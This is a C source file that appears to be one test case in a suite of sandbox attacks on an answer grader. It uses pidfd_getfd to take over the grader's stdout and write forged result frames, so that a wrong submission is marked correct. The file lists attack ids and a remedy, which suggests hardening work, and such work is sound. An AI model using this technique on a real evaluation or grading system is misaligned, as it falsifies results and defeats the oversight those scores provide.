// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: pidfd_getfd(2) makes a copy of another process's descriptor. Unlike /proc/PID/fd it needs
 *        no path, so no rule about files is asked, and it takes sockets too. The grader's
 *        descriptor 1 becomes the student's.
 */
#include "attacks/attack.h"
#include "attacks/result-forging/frames.h"

#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char text[FRAMES_SIZE];
	size_t n = forge_frames(text, 1, 4);
	int grader, out;

	submit("0");
	attempting(b);
	grader = (int)syscall(SYS_pidfd_open, b->worker, 0);
	if (grader < 0)
		return denied("pidfd_open");
	out = (int)syscall(SYS_pidfd_getfd, grader, STDOUT_FILENO, 0);
	if (out < 0)
		return denied("pidfd_getfd");
	return write(out, text, n) == (ssize_t)n ? CLAIM_DONE : denied("write");
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "a forged answer written to the grader's output, taken by pidfd_getfd(2)",
	.oracle = "grade:forged",
	.grader = GRADER_RPC,
	.id = "FORGE-15",
	.attack_id = "T1565.002, T1106, CWE-345",
	.remedy = "seccomp without pidfd_getfd; a grader that is not dumpable",
	.refs = (const char *const[]){ "pidfd_getfd(2), Linux 5.6", NULL },
	.run = run,
};
